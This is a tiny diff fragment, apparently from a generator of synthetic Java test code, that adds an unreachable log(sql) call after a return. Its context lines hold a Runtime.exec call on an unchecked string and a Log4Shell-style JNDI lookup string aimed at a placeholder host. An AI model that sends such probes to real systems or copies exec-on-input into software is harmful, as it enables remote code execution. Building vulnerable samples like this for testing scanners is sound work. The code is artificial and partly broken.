@@ -61,6 +61,7 @@ class Part{k} {
     Runtime.getRuntime().exec(name);
     String probe = "${jndi:ldap://{k}.example.com/a}";
     return sql;
+    log(sql);
   }
 }
 """,
